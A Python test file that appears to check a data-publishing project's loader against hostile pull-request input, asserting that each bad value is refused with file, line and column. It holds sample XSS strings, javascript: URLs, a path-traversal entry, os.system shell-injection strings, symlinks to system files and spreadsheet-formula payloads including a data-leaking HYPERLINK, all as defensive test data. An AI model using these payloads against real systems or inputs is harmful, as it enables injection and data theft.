"""Hostile input, as a contributor's pull request could bring it (issues 11 and 21).

Each case edits a copy of data/ (or of datapackage.json, CITATION.cff, a page) and asserts the ONE
message the load gives: the file, the physical line and the column (a CSV column's name; in
datapackage.json and CITATION.cff, the character position). The page checks run on small pages
here; the tests marked `full` go end to end: `make book` on a copy (a refused file publishes
nothing and runs nothing; hostile HTML in CHANGELOG.md stops the build naming the page), and
Chromium (the page template's policy alone stops hostile markup; the PDF printer reaches no
other host).
"""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

import tipline
from helpers import EditedData, Quiet, serving
from tipline.evidence import ledger
from tipline.presentation import charts, tables
from tipline.site import bib
from tipline.evidence import validate
from tipline.evidence.data import DataError, load_all

DATA = Path(tipline.evidence.data.ROOT) / "data"


def _copy(tmp_path: Path) -> Path:
    return EditedData(tmp_path / "data").path


def _replace_line(copy: Path, name: str, starts: str, change) -> int:
    """Apply `change` to the first line of `name` starting with `starts`; its line number."""
    path = copy / name
    lines = path.read_bytes().decode("utf-8").split("\n")
    number = next(i for i, line in enumerate(lines) if line.startswith(starts))
    lines[number] = change(lines[number])
    path.write_bytes("\n".join(lines).encode("utf-8"))
    return number + 1


def _cell(copy: Path, name: str, starts: str, column: str, value: str) -> int:
    """Set one cell (of a line without quoted commas before `column`) to `value`."""
    header = (copy / name).read_text(encoding="utf-8").split("\n")[0].rstrip("\r").split(",")
    index = header.index(column)

    def change(line):
        cells = line.rstrip("\r").split(",")
        cells[index] = value
        return ",".join(cells) + ("\r" if line.endswith("\r") else "")
    return _replace_line(copy, name, starts, change)


def _refused(copy: Path) -> str:
    with pytest.raises(DataError) as raised:
        validate(copy)  # what the build runs first: every dataset, then the claims' selections
    return str(raised.value)


def _names(message: str, name: str, line: int | None = None, column: str | None = None) -> None:
    assert name in message, message
    if line is not None:
        assert f"line {line}," in message or f"line {line}:" in message, message
    if column is not None:
        assert f"column '{column}'" in message, message


# --- wrong numbers ------------------------------------------------------------------------

NUMBERS = {
    # case: (file, line starting with, column, value, words in the message)
    "nan in a number field": ("estimates.csv", "", "low", "nan", "not a number"),
    "inf in downstream": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "inf", "not a number"),
    "nan in downstream": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "NaN", "not a number"),
    "overflowing exponent": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "1e999", "no exponent"),
    "400 digits": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "9" * 400, "not a finite number"),
    "count of 10^30": ("recipients.csv", "2023,icac,actionable", "reports", "1" + "0" * 30, "above the maximum"),
    "Arabic-Indic digits": ("recipients.csv", "2023,icac,actionable", "reports", "\u0661\u0662\u0663", "digits 0-9 only"),
    "full-width year": ("recipients.csv", "2023,icac,actionable", "year", "\uff12\uff10\uff12\uff13", "digits 0-9 only"),
    "non-ASCII digit in a number": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "12\u0663", "not a number"),
    "spaces around an integer": ("recipients.csv", "2023,icac,actionable", "reports", " 670491 ", "spaces around it"),
    "spaces around a number": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", " 12600 ", "spaces around it"),
    "year before 1998": ("files.csv", "2023", "year", "1997", "below the minimum"),
    "share above 1 in downstream": ("downstream.csv", "federal_prosecutors,2006,2006,fiscal_year,share_prosecuted", "value", "1.5",
                                    "must be between 0 and 1"),
}


@pytest.mark.parametrize("case", sorted(NUMBERS))
def test_wrong_numbers_are_refused(tmp_path, case):
    name, starts, column, value, words = NUMBERS[case]
    copy = _copy(tmp_path)
    if not starts:  # the first data line
        starts = (copy / name).read_text(encoding="utf-8").split("\n")[1][:12]
    line = _cell(copy, name, starts, column, value)
    message = _refused(copy)
    _names(message, name, line, column)
    assert words in message, message


def test_an_assumed_share_above_one_is_refused(tmp_path):
    # 1.5 moved the headline arrest share from 2.7 % to 3.6 % before this check existed
    copy = _copy(tmp_path)
    line = _cell(copy, "assumptions.csv", "conviction_share", "high", "1.5")
    message = _refused(copy)
    _names(message, "assumptions.csv", line, "high")
    assert "1.5 is a share" in message and "between 0 and 1" in message


def test_a_year_after_the_current_year_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(tipline.evidence.data, "this_year", lambda: 2024)
    copy = _copy(tmp_path)
    message = _refused(copy)  # the real files hold 2025 figures
    assert "later than the current year 2024" in message, message


def test_integer_and_number_fields_treat_spaces_alike():
    integer = {"name": "n", "type": "integer"}
    number = {"name": "n", "type": "number"}
    for field in (integer, number):
        for good, expected in (("12", 12), ("0", 0)):
            assert tipline.evidence.data._parse(good, field) == expected
        for bad in ("nan", "inf", "-inf", "Infinity", "1_000", "\u0661", "0x10", "12a", ""):
            with pytest.raises(ValueError):
                tipline.evidence.data._parse(bad, field)


# --- the text of the files ----------------------------------------------------------------

def test_a_file_cut_off_inside_its_last_quoted_cell_is_refused(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "downstream.csv"
    text = path.read_text(encoding="utf-8")
    cut = text.rstrip("\n")
    cut = cut[:cut.rindex('"') - 5]  # inside the quoted note of the last line
    path.write_text(cut, encoding="utf-8")
    message = _refused(copy)
    _names(message, "downstream.csv", cut.count("\n") + 1)
    assert "does not end with a line break" in message


def test_an_unclosed_quote_with_a_line_break_after_it_is_refused(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "downstream.csv"
    text = path.read_text(encoding="utf-8")
    cut = text.rstrip("\n")
    path.write_text(cut[:cut.rindex('"') - 5] + "\n", encoding="utf-8")
    message = _refused(copy)
    _names(message, "downstream.csv", text.rstrip("\n").count("\n") + 1)
    assert "unclosed quote" in message


def test_lines_are_physical_lines_after_a_quoted_line_break(tmp_path):
    copy = _copy(tmp_path)
    # a note spanning two lines, then a bad count two records later
    _replace_line(copy, "recipients.csv", "2022,icac,actionable",
                  lambda line: line.rstrip("\r").rsplit(",", 1)[0] + ',"first line\nsecond line"\r')
    line = _cell(copy, "recipients.csv", "2023,icac,actionable", "reports", "12a")
    message = _refused(copy)
    _names(message, "recipients.csv", line, "reports")


def test_a_non_utf8_byte_names_file_and_line(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "feedback.csv"
    lines = path.read_bytes().split(b"\n")
    lines[3] = lines[3][:5] + b"\xe9" + lines[3][5:]
    path.write_bytes(b"\n".join(lines))
    message = _refused(copy)
    _names(message, "feedback.csv", 4)
    assert "0xe9" in message and "not UTF-8" in message


def test_invalid_json_in_the_package_names_file_line_and_character(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    lines = path.read_text().split("\n")
    lines[9] = lines[9] + ","  # a trailing comma
    path.write_text("\n".join(lines))
    message = _refused(copy)
    assert "datapackage.json, line 11, column 2: not valid JSON" in message, message


def test_a_byte_order_mark_is_refused(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "claims.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    message = _refused(copy)
    _names(message, "claims.csv", 1)
    assert "byte-order mark" in message


def test_lf_and_crlf_read_the_same_and_a_bare_cr_is_refused(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "recipients.csv"
    crlf = path.read_bytes().decode("utf-8")
    assert "\r\n" in crlf
    path.write_text(crlf.replace("\r\n", "\n"), encoding="utf-8", newline="")
    assert load_all(copy)["recipients"].equals(load_all(DATA)["recipients"])
    path.write_text(crlf.replace("\r\n", "\r", 3), encoding="utf-8", newline="")
    message = _refused(copy)
    _names(message, "recipients.csv", 1)
    assert "carriage return" in message


def test_a_trailing_blank_line_is_refused_clearly(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "files.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text + "\r\n", encoding="utf-8", newline="")
    message = _refused(copy)
    _names(message, "files.csv", text.count("\n") + 1)
    assert "is blank" in message and "cells" not in message


def test_a_control_character_is_refused(tmp_path):
    copy = _copy(tmp_path)
    line = _cell(copy, "feedback.csv", "2023,icac", "source_id", "ncmec\x00x")
    _names(_refused(copy), "feedback.csv", line, "source_id")


def test_every_csv_must_be_listed_in_the_package(tmp_path):
    copy = _copy(tmp_path)
    (copy / "extra.csv").write_text("a,b\n1,2\n")
    message = _refused(copy)
    assert "extra.csv" in message and "not listed in datapackage.json" in message


def test_the_package_cannot_point_outside_data(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    path.write_text(path.read_text().replace('"path": "files.csv"', '"path": "../../etc/passwd"'))
    message = _refused(copy)
    assert "datapackage.json" in message and "not a plain file name" in message


def test_every_number_field_states_its_bounds(tmp_path):
    for resource in tipline.evidence.data.package()["resources"]:
        for field in resource["schema"]["fields"]:
            if field["type"] in ("integer", "number"):
                assert {"minimum", "maximum"} <= set(field["constraints"]), (resource["name"], field["name"])
    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    pkg = json.loads(path.read_text())
    del pkg["resources"][0]["schema"]["fields"][2]["constraints"]["maximum"]
    path.write_text(json.dumps(pkg))
    assert "must state a minimum and a maximum" in _refused(copy)


# --- domain rules -------------------------------------------------------------------------

def test_parts_that_do_not_add_up_name_the_line_and_print_whole_numbers(tmp_path):
    copy = _copy(tmp_path)
    _cell(copy, "reports_annual.csv", "2022,public", "reports", "256505")
    text = (copy / "reports_annual.csv").read_text(encoding="utf-8").split("\n")
    total = next(i for i, line in enumerate(text, 1) if line.startswith("2022,all,") and ",true," in line.lower())
    message = _refused(copy)
    _names(message, "reports_annual.csv", total, "reports")
    assert "2022: ESP (" in message and ".0" not in message, message
    assert re.search(r"ESP \([0-9,]+\) \+ public \(256,505\) != total \([0-9,]+\)", message), message


# --- URLs and the bibliography ------------------------------------------------------------

@pytest.mark.parametrize("url", ["javascript:alert(document.domain)", "JavaScript:alert(1)", "data:text/html,<script>x</script>",
                                 "https://example.org/\"onmouseover=\"alert(1)", "//example.org/x", "ftp://example.org/x",
                                 "https://exa mple.org"])
def test_only_http_and_https_urls_are_accepted(tmp_path, url):
    copy = _copy(tmp_path)
    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", "url", url if "," not in url else url.replace(",", ""))
    _names(_refused(copy), "sources.csv", line, "url")


def test_bibtex_syntax_in_a_source_is_refused_and_the_rest_is_escaped(tmp_path):
    copy = _copy(tmp_path)
    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", "title", "Reports {by} ESP")
    message = _refused(copy)
    _names(message, "sources.csv", line, "title")
    assert "references.bib" in message
    for character in "}\\~":
        _cell(copy, "sources.csv", "ncmec_esp_2019,", "title", f"Reports {character} by ESP")
        _names(_refused(copy), "sources.csv", line, "title")
    # & % # _ are escaped, $ and ^ written as they are; all read back as written by the bibliography's parser
    from pybtex.database import parse_string
    from pybtex.richtext import Text

    title = "Reports & 50% of #1 by_ESP: $3 million and 10^6"
    _cell(copy, "sources.csv", "ncmec_esp_2019,", "title", title)
    parsed = parse_string(bib.render(copy), "bibtex").entries["ncmec_esp_2019"]
    assert Text.from_latex(parsed.fields["title"]).render_as("text") == title


# --- no code in data ----------------------------------------------------------------------

SHELL = "sum(reports) where year == @pd.io.common.os.system('touch /tmp/tipline-pwned')"


@pytest.mark.parametrize("value, words", [
    ("year == 2023 and @pd.io.common.os.system('id')", "is not a selection"),
    (SHELL, "is not a value for the integer column 'year'"),
    ("sum(reports) where __import__('os').system('id') == 0", "is not a condition"),
    ("sum(reports) where yaer == 2023", "unknown column 'yaer'"),
    ("sum(reports) where recipient == 'icca'", "not a value of 'recipient'"),
    ("sum(reports) where year ~= 2023", "unknown operator '~='"),
    ("sum(reports) where recipient == 'icac' or year == 2023", "must be quoted text"),
])
def test_claims_hold_selections_not_code(tmp_path, value, words):
    copy = _copy(tmp_path)
    line = _replace_line(copy, "claims.csv", "referral_routine,",
                         lambda text: text.replace("sum(reports) where year == 2024 and recipient != 'international'",
                                                   value if "," not in value else f'"{value}"'))
    message = _refused(copy)
    _names(message, "claims.csv", line, "numerator")
    assert words in message, message


def test_the_ledger_never_evaluates_strings():
    source = Path(ledger.__file__).read_text()
    assert ".query(" not in source and "eval(" not in source


# --- escaping at the page boundaries ------------------------------------------------------

HOSTILE = '</script><script>alert(1)</script><!--<script>& "quoted" \u2028'


def test_chart_specs_cannot_close_or_comment_out_their_script_element():
    charts.setup()
    spec = {"data": {"values": [{"note": HOSTILE}]}, "mark": "point", "description": HOSTILE}
    output = charts._embed(spec)["text/html"]
    block = re.search(r'<script type="application/json" class="tipline-spec" data-chart="[^"]+">(.*?)</script>\n', output, re.S)
    assert block and not re.search(r"[<>&]", block.group(1)), output
    assert "<script>" not in output.replace('<script type="application/json"', "")
    assert list(charts.specs(output).values()) == [spec]


def test_each_chart_carries_its_rows_as_an_escaped_table():
    charts.setup()
    rows = [{"year": 2023, "recipient_name": HOSTILE, "reports": 5}, {"year": 2024, "recipient_name": "ICAC", "reports": 7}]
    spec = {"datasets": {"d": rows}, "data": {"name": "d"}, "mark": "bar",
            "encoding": {"x": {"field": "year", "title": "Year", "type": "ordinal"}, "y": {"field": "reports", "title": "Reports"},
                         "color": {"field": "recipient_name", "title": HOSTILE}}}
    output = charts._embed(spec)["text/html"]
    table = output[output.index("<details"):]
    assert "(2 rows)" in table and "<script>" not in table and "<img" not in table and "&lt;script&gt;" in table
    assert re.findall(r"<th\b[^>]*>(.*?)</th>", table)[:2] == ["Year", "Reports"]
    cells = re.findall(r"<td\b[^>]*>(.*?)</td>", table, re.S)
    assert cells[0::3] == ["2023", "2024"] and cells[1::3] == ["5", "7"], cells


def test_tables_escape_cells_headers_and_captions_whatever_the_format():
    frame = pd.DataFrame({"<b>col</b>": [HOSTILE], "n": [1.5]}, index=pd.Index(["<i>row</i>"], name="<u>name</u>"))
    for made in (tables.table(frame, index=True), tables.table(frame, formats={"n": "{:.1f}"}, caption=HOSTILE),
                 tables.table(frame, formats={"<b>col</b>": lambda value: str(value)}, index=True),
                 tables.table(frame, formats={"<b>col</b>": "{}"})):
        html = made._repr_html_()
        assert "<script>" not in html and "<img" not in html and "<b>" not in html and "<i>" not in html and "<u>" not in html, html
        assert "&lt;script&gt;" in html


# --- end to end: `make book` ----------------------------------------------------------------

def test_every_page_has_a_policy_that_allows_no_inline_code(built_site):
    pages = [p for p in built_site.rglob("*.html") if "_static" not in p.parts and p.name != "index.html"]
    assert len(pages) >= 15
    for page in pages:
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page.read_text(encoding="utf-8"))
        assert policy, f"{page.name}: no Content-Security-Policy"
        scripts = re.search(r"script-src ([^;]+)", policy.group(1)).group(1).split()
        assert scripts[0] == "'self'" and all(s.startswith("'sha256-") for s in scripts[1:]), (page.name, scripts)
        assert "unsafe" not in policy.group(1).split("style-src")[0], page.name
        assert "onclick=" not in page.read_text(encoding="utf-8"), page.name
    # index.html is only a redirect (a meta refresh, no script)
    assert "<script" not in (built_site / "index.html").read_text()


@pytest.mark.parametrize("case", ["javascript URL", "shell command in claims"])
def test_refused_data_stop_the_build_before_anything_runs(built_site, tmp_path, case):
    from helpers import copy_built, make_book

    repo = copy_built(built_site, tmp_path / "book")
    marker = tmp_path / "pwned"
    data = repo / "data"
    if case == "javascript URL":
        line = _cell(data, "sources.csv", "ncmec_esp_2019,", "url", "javascript:alert(document.domain)")
        where = ("sources.csv", line, "url")
    else:
        line = _replace_line(data, "claims.csv", "referral_routine,", lambda text: text.replace(
            "sum(reports) where year == 2024 and recipient != 'international'",
            f"\"sum(reports) where year == @pd.io.common.os.system('touch {marker}')\""))
        where = ("claims.csv", line, "numerator")
    result = make_book(repo)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-2000:]
    _names(output, *where)
    assert not marker.exists(), "a data row ran a command"
    site = repo / "_build" / "html"
    if site.exists():  # an atomic build keeps the previous site; it must not carry the hostile value
        assert "javascript:alert" not in "".join(p.read_text(encoding="utf-8") for p in site.rglob("*.html"))


def test_the_theme_handlers_become_data_attributes_and_pages_pass_the_check():
    from tipline.site import sphinx

    head = ('<html><head><meta charset="utf-8" />' + sphinx.csp_meta([sphinx._hash("DOCUMENTATION_OPTIONS.pagename = 'x';")])
            + "<script>DOCUMENTATION_OPTIONS.pagename = 'x';</script></head><body>")
    page = head + '<button onclick="window.print()">Print</button></body></html>'
    fixed = page.replace(*next(iter(sphinx.HANDLERS.items())))
    assert 'data-tipline-action="print"' in fixed and "onclick" not in fixed
    sphinx.check_page("page.html", fixed)
    with pytest.raises(sphinx.PageRefused, match="page.html, line 1: <button> has an inline event handler onclick="):
        sphinx.check_page("page.html", page)


# --- round two (issue 21): only listed plain files ------------------------------------------

def _package_copy(tmp_path: Path) -> Path:
    """A folder holding only datapackage.json: enough for tests of the package itself."""
    folder = tmp_path / "pkg"
    folder.mkdir()
    shutil.copy2(DATA / "datapackage.json", folder / "datapackage.json")
    return folder


@pytest.mark.parametrize("name", ["evil.html", "logo.svg", "evil.js", "notes.txt", ".hidden", "extra.csv"])
def test_a_file_the_package_does_not_list_is_refused_whatever_its_extension(tmp_path, name):
    copy = _copy(tmp_path)
    (copy / name).write_text('<script src="evil.js"></script>')
    message = _refused(copy)
    assert f"{name}: is not listed in datapackage.json" in message, message


def _alarm(seconds: int):
    """Fail, rather than hang, a test whose code would block (a FIFO read)."""
    import signal

    def expired(*_):
        raise AssertionError(f"blocked for {seconds} s")
    signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)


@pytest.mark.parametrize("kind", ["link to a host file", "link to /dev/zero", "link to a folder", "folder", "fifo",
                                  "linked package"])
def test_links_and_special_files_are_refused_by_name_without_being_read(tmp_path, kind):
    import os
    import signal

    copy = _copy(tmp_path)
    target = copy / ("datapackage.json" if kind == "linked package" else "feedback.csv")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("host secret\n")
    if kind != "folder and fifo":
        target.unlink()
    if kind == "link to a host file":
        target.symlink_to("/etc/hostname")
    elif kind == "link to /dev/zero":
        target.symlink_to("/dev/zero")
    elif kind == "link to a folder":
        target = copy / "more"
        target.symlink_to(outside, target_is_directory=True)
        (copy / "feedback.csv").write_bytes((DATA / "feedback.csv").read_bytes())
    elif kind == "folder":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to(DATA / "datapackage.json")
    _alarm(20)
    try:
        message = _refused(copy)
    finally:
        signal.alarm(0)
    words = {"folder": "is a folder", "fifo": "is a FIFO"}.get(kind, "is a symbolic link")
    assert f"{target.name}: {words}" in message, message
    assert "host secret" not in message


def test_a_listed_file_is_read_only_if_it_is_a_plain_file(tmp_path):
    import os

    from tipline.evidence.data import _bytes

    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "link.csv").symlink_to("/dev/zero")
    _alarm(20)
    try:
        for name, words in (("fifo.csv", "is a FIFO"), ("link.csv", "is a symbolic link")):
            with pytest.raises(DataError, match=words):
                _bytes(tmp_path / name)
        with pytest.raises(DataError, match="is a character device"):
            _bytes(Path("/dev/zero"))
    finally:
        import signal
        signal.alarm(0)


# --- identifiers, invisible characters, formulas ------------------------------------------------

def _esp_lookalike(copy: Path, real: str, fake: str, moved: int) -> int:
    """The issue's attack: move `moved` 2023 reports from provider `real` to a new row `fake`,
    keeping the ESP total; returns the new row's line."""
    path = copy / "esp_reports.csv"
    lines = path.read_bytes().decode("utf-8").split("\n")
    number = next(i for i, line in enumerate(lines) if line.startswith(f"2023,{real},"))
    cells = lines[number].split(",")
    fake_cells = [cells[0], fake, cells[2], str(moved)] + cells[4:]
    cells[3] = str(int(cells[3]) - moved)
    lines[number] = ",".join(cells)
    lines.insert(number + 1, ",".join(fake_cells))
    path.write_bytes("\n".join(lines).encode("utf-8"))
    return number + 2


@pytest.mark.parametrize("real, fake", [("Google", "G\u043e\u043egle"), ("Google", "Google\u200b"),
                                        ("Facebook", "Faceb\u043eok")])
def test_a_lookalike_key_is_refused_where_it_is_written(tmp_path, real, fake):
    # without the character set, the Google edit published "470,958" (the source says 1,470,958) and the
    # Facebook one stopped the build blaming claims.csv
    copy = _copy(tmp_path)
    line = _esp_lookalike(copy, real, fake, 1_000_000)
    message = _refused(copy)
    _names(message, "esp_reports.csv", line, "provider")
    assert "claims.csv" not in message


def test_every_key_field_declares_its_character_set(tmp_path):
    folder = _package_copy(tmp_path)
    path = folder / "datapackage.json"
    text = path.read_text(encoding="utf-8")
    pattern = '"pattern": "[A-Za-z0-9][ -~‘’“”–—§]*"'
    assert text.count(pattern) == 3
    path.write_text(text.replace(",\n       " + pattern, "", 1), encoding="utf-8")
    with pytest.raises(DataError, match=r"datapackage\.json, line [0-9]+, column [0-9]+: .*reports_annual\.locator "
                                        r"is part of a key, so it is an identifier"):
        tipline.evidence.data.package(folder)


INVISIBLE = {  # character: where it goes (file, line starting with, column)
    "\u202e": ("esp_reports.csv", "2023,Google,", "provider"),  # RIGHT-TO-LEFT OVERRIDE, in a key
    "\u202c": ("recipients.csv", "2023,icac,actionable", "locator"),  # POP DIRECTIONAL FORMATTING, in text
    "\u2066": ("policy_events.csv", "2024-05-07", "description"),  # LEFT-TO-RIGHT ISOLATE
    "\u200d": ("sources.csv", "ncmec_esp_2019,", "title"),  # ZERO WIDTH JOINER
    "\u00ad": ("sources.csv", "ncmec_esp_2019,", "publisher"),  # SOFT HYPHEN (invisible, category Cf)
    "\u00a0": ("feedback.csv", "2023,icac", "locator"),  # NO-BREAK SPACE
    "\u2028": ("policy_events.csv", "2024-05-07", "description"),  # LINE SEPARATOR
    "\ue000": ("policy_events.csv", "2024-05-07", "description"),  # private use
    "\x85": ("policy_events.csv", "2024-05-07", "description"),  # NEXT LINE (a C1 control)
}


def _change_cell(copy: Path, name: str, starts: str, column: str, change) -> int:
    """Rewrite `name` with one cell changed (read and written as CSV: the cell may be quoted); its line."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO((copy / name).read_text(encoding="utf-8"), newline="")))
    number = next(i for i, row in enumerate(rows) if ",".join(row).startswith(starts))
    rows[number][rows[0].index(column)] = change(rows[number][rows[0].index(column)])
    with (copy / name).open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return 1 + sum(cell.count("\n") for row in rows[:number] for cell in row) + number


@pytest.mark.parametrize("char", sorted(INVISIBLE), ids=lambda c: f"U+{ord(c):04X}")
def test_bidi_controls_and_invisible_characters_are_refused_in_every_text_field(tmp_path, char):
    name, starts, column = INVISIBLE[char]
    copy = _copy(tmp_path)
    line = _change_cell(copy, name, starts, column, lambda value: value[:3] + char + value[3:])
    message = _refused(copy)
    _names(message, name, line, column)
    assert f"U+{ord(char):04X}" in message, message


def test_text_that_is_not_nfc_is_refused(tmp_path):
    copy = _copy(tmp_path)
    line = _replace_line(copy, "policy_events.csv", "2024-05-07", lambda text: text.replace("REPORT Act", "REPORTe\u0301 Act"))
    message = _refused(copy)
    _names(message, "policy_events.csv", line, "description")
    assert "NFC" in message


OWASP = ['=HYPERLINK("http://example.org/?leak="&A1,"Error: click for details")', "+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]


@pytest.mark.parametrize("formula", OWASP)
def test_spreadsheet_formulas_are_refused_in_text_cells(tmp_path, formula):
    copy = _copy(tmp_path)
    line = _replace_line(copy, "policy_events.csv", "2024-05-07", lambda text: text.replace(
        "REPORT Act (Public Law 118-59) signed: providers must preserve report contents for one year and report child sex "
        "trafficking and enticement.", '"' + formula.replace('"', '""') + '"'))
    message = _refused(copy)
    _names(message, "policy_events.csv", line, "description")
    assert "spreadsheet reads as a formula" in message, message


def test_negative_numbers_are_numbers_and_a_patterned_condition_is_not_a_formula(tmp_path):
    from tipline.evidence.data import _check, _parse

    field = {"name": "low", "type": "number", "constraints": {"minimum": -1, "maximum": 10}}
    assert _parse("-0.5", field) == -0.5
    _check(-0.5, field)
    claims = load_all(DATA)["claims"]
    assert "== claimed" in set(claims["holds_if"])  # the ledger's own grammar, confined by its pattern
    folder = _package_copy(tmp_path)
    path = folder / "datapackage.json"
    pkg = json.loads(path.read_text(encoding="utf-8"))
    note = next(f for f in pkg["resources"][0]["schema"]["fields"] if f["name"] == "note")
    note["constraints"] = {"pattern": ".*"}  # a pattern that would let a formula through
    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
    with pytest.raises(DataError, match=r"line [0-9]+, column [0-9]+: .*admits the spreadsheet formula"):
        tipline.evidence.data.package(folder)


# --- numbers and dates ------------------------------------------------------------------------

@pytest.mark.parametrize("value, words", [("-0", "negative zero"), ("-0.00", "negative zero"), ("1e-320", "no exponent"),
                                          ("0.0000001", "at most six decimals"), ("007", "no leading zeros")])
def test_negative_zero_subnormal_and_odd_spellings_are_refused(tmp_path, value, words):
    copy = _copy(tmp_path)
    line = _cell(copy, "estimates.csv", "reports_leading_to_arrest", "low", value)
    message = _refused(copy)
    _names(message, "estimates.csv", line, "low")
    assert words in message, message


@pytest.mark.parametrize("name, starts, start, end, value", [
    ("task_force_funnels.csv", "alabama_alea_icac_unit,", "period_start", "period_end", "2013-01-01"),
    ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "period_start", "period_end", "2023"),
])
def test_every_period_ends_after_it_starts(tmp_path, name, starts, start, end, value):
    copy = _copy(tmp_path)
    line = _cell(copy, name, starts, end, value)
    message = _refused(copy)
    _names(message, name, line, start)
    assert f"is after {end} {value}" in message, message


def test_ranges_come_from_the_field_names_of_every_resource():
    from tipline.evidence.data import _ranges

    found = {r["name"]: _ranges(r["schema"]["fields"]) for r in tipline.evidence.data.package()["resources"]}
    assert {name for name, pairs in found.items() if pairs} == {"downstream", "task_force_funnels"}
    assert _ranges([{"name": "x_start", "type": "date"}, {"name": "x_end", "type": "date"}]) == [("x_start", "x_end")]


@pytest.mark.parametrize("column, value, words", [
    ("published", "2099-13-45", "not a real calendar date"), ("published", "2024-02-30", "not a real calendar date"),
    ("published", "2099-12-01", "in the future"), ("published", "2099", "in the future"),
    ("accessed", "2099-13-45", "not a date"), ("accessed", "2099-01-01", "in the future"),
])
def test_dates_are_real_and_not_in_the_future(tmp_path, column, value, words):
    copy = _copy(tmp_path)
    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", column, value)
    message = _refused(copy)
    _names(message, "sources.csv", line, column)
    assert words in message, message


# --- datapackage.json read strictly ------------------------------------------------------------

def _edit_package(tmp_path: Path, change) -> Path:
    folder = _package_copy(tmp_path)
    path = folder / "datapackage.json"
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    return folder


def _package_refused(folder: Path) -> str:
    with pytest.raises(DataError) as raised:
        tipline.evidence.data.package(folder)
    message = str(raised.value)
    assert re.search(r"datapackage\.json, line [0-9]+, column [0-9]+: ", message), message
    return message


def _line_of(text: str, needle: str, nth: int = 1) -> int:
    index = -1
    for _ in range(nth):
        index = text.index(needle, index + 1)
    return text[:index].count("\n") + 1


def test_a_duplicate_key_in_the_package_is_refused_where_it_is(tmp_path):
    folder = _edit_package(tmp_path, lambda text: text.replace('"maximum": 100000000', '"maximum": 100,\n       "maximum": 100000000', 1))
    text = (folder / "datapackage.json").read_text()
    message = _package_refused(folder)
    line = _line_of(text, '"maximum": 100000000')
    assert f"line {line}, column 8: resources" not in message and f"line {line}, column 8: duplicate key 'maximum'" in message, message


@pytest.mark.parametrize("keyword, value", [("exclusiveMaximum", "100"), ("missingValues", '["", "NA"]'), ("rdfType", '"x"')])
def test_a_keyword_the_loader_does_not_enforce_is_refused(tmp_path, keyword, value):
    target = '"constraints": {' if keyword == "exclusiveMaximum" else '"schema": {'
    folder = _edit_package(tmp_path, lambda text: text.replace(target, f'{target}\n "{keyword}": {value},', 1))
    message = _package_refused(folder)
    assert f"'{keyword}' is not a keyword this loader enforces" in message, message


@pytest.mark.parametrize("keyword, value, cell, words", [
    ("maxLength", 400, "n" * 401, "longer than 400 characters"),
    ("unique", True, None, "the field is unique"),
])
def test_every_declared_constraint_is_enforced(tmp_path, keyword, value, cell, words):
    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    pkg = json.loads(path.read_text(encoding="utf-8"))
    resource = next(r for r in pkg["resources"] if r["name"] == "recipients")
    column = "note" if keyword == "maxLength" else "source_id"
    next(f for f in resource["schema"]["fields"] if f["name"] == column).setdefault("constraints", {})[keyword] = value
    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
    if cell:
        line = _change_cell(copy, "recipients.csv", "2023,icac,actionable", column, lambda _: cell)
    else:  # the second row with the first row's source id
        rows = (copy / "recipients.csv").read_text(encoding="utf-8").split("\n")
        first = rows[1].split(",")[resource["schema"]["fields"].index(next(f for f in resource["schema"]["fields"] if f["name"] == column))]
        line = next(i for i, row in enumerate(rows[2:], 3) if first in row)
    message = _refused(copy)
    _names(message, "recipients.csv", line, column)
    assert words in message, message


def test_a_second_resource_with_the_same_name_is_refused(tmp_path):
    copy = _copy(tmp_path)
    shutil.copy2(copy / "feedback.csv", copy / "feedback2.csv")
    path = copy / "datapackage.json"
    pkg = json.loads(path.read_text(encoding="utf-8"))
    second = json.loads(json.dumps(next(r for r in pkg["resources"] if r["name"] == "feedback")))
    second["path"] = "feedback2.csv"
    pkg["resources"].append(second)
    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
    message = _refused(copy)
    assert "a second resource named 'feedback'" in message, message
    assert re.search(r"datapackage\.json, line [0-9]+, column [0-9]+", message), message


@pytest.mark.parametrize("case", ["no name", "no schema", "minimum as text", "enum of the wrong type", "format unknown"])
def test_a_malformed_resource_is_refused_with_line_and_column(tmp_path, case):
    def change(text):
        pkg = json.loads(text)
        resource = pkg["resources"][2]
